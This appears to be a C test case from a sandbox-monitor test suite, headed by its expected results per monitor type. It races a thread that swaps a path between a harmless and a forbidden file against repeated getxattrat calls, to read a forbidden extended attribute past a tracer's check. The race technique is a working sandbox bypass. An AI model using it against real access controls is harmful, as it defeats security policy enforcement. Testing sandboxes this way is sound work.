/* attack
class: policy
aim: call
race: true
tries: the path of getxattrat changes while it is judged
expect: { none: contained, process: gap, mpk: contained }
gap: a tracer judges the path before the kernel copies it
*/
/* The policy forbids to read attributes of forbidden-file. The struct of getxattrat leads to other memory, so that the monitor cannot simply make
   the call with its own rights. */
#include "attack.h"
#include <pthread.h>
#include <sys/xattr.h>
#ifndef SYS_getxattrat
#define SYS_getxattrat 464
#endif
static char path[32] = "harmless-file";
static volatile int stop;
static void *flips(void *unused) {
    while (!stop) {
        memcpy(path, "forbidden-file", 15);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 60; i++) {}
        memcpy(path, "harmless-file\0", 15);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 60; i++) {}
    }
    return unused;
}
int main(void) {
    char value[8] = "";
    struct { uint64_t value; uint32_t size, flags; } args = {(uint64_t)value, sizeof value, 0};
    close(open("harmless-file", O_CREAT | O_WRONLY, 0600));
    close(open("other", O_CREAT | O_WRONLY, 0600));
    if (setxattr("other", "user.secret", "secret!!", 8, 0)) not_here("files have no attributes here");
    if (syscall(SYS_getxattrat, AT_FDCWD, "other", 0, "user.secret", &args, sizeof args) != 8) not_here("this kernel has no getxattrat");
    memset(value, 0, sizeof value);
    if (rename("other", "forbidden-file")) return 1;
    pthread_t thread;
    pthread_create(&thread, NULL, flips, NULL);
    struct timespec begun, now;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    for (now = begun; now.tv_sec - begun.tv_sec < 5 && !value[0]; clock_gettime(CLOCK_MONOTONIC, &now))
        syscall(SYS_getxattrat, AT_FDCWD, path, 0, "user.secret", &args, sizeof args);
    stop = 1;
    pthread_join(thread, NULL);
    errno = 0;
    verdict(value[0] != 0);
}
